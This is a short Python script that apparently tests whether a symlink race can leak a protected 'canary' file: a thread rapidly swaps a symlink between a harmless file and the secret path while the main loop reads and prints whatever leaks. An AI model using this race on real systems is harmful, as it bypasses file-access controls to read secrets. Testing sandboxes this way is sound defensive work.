import os
import sys
import threading

sys.setswitchinterval(1e-5)
secret = os.environ["CANARY"]
with open("plain", "w") as f:
    f.write("harmless")
stop = False

def swap():
    n = 0
    while not stop:
        n += 1
        target = ("plain", secret)[n % 2]
        try:
            os.symlink(target, "next")
            os.rename("next", "link")
        except OSError:
            pass

os.symlink("plain", "link")
thread = threading.Thread(target=swap)
thread.start()
for _ in range(3000):
    try:
        with open("link") as f:
            text = f.read()
    except OSError:
        continue
    if text != "harmless":
        print(text)
        break
stop = True
thread.join()
